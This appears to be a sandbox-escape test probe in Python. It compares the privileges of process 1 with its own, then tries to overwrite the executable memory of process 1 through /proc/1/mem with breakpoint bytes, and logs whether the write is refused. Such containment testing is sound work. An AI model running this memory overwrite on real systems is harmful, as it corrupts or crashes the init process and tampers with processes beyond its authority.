"""Overwrites the program of process 1 in its memory, which needs no ptrace call; it must gain nothing by it."""

from honest import log, play

FIELDS = ("Uid", "Gid", "Groups", "CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb", "NoNewPrivs", "Seccomp")


def rights(pid):
    with open(f"/proc/{pid}/status") as status:
        found = dict(line.split(":", 1) for line in status)
    return {field: found.get(field, "").strip() for field in FIELDS}


def attack():
    more = {field: value for field, value in rights(1).items() if value != rights("self")[field]}
    if more:
        log(f"ESCAPED: process 1 has other rights: {more}")
    try:
        with open("/proc/1/maps") as maps:
            programs = [line.split()[0].split("-") for line in maps if " r-xp " in line]
        with open("/proc/1/mem", "r+b", buffering=0) as memory:
            for start, end in programs:
                memory.seek(int(start, 16))
                memory.write(b"\xcc" * (int(end, 16) - int(start, 16)))
        log("rewritten")
    except OSError as error:
        log(f"refused: {error}")


play(attack)
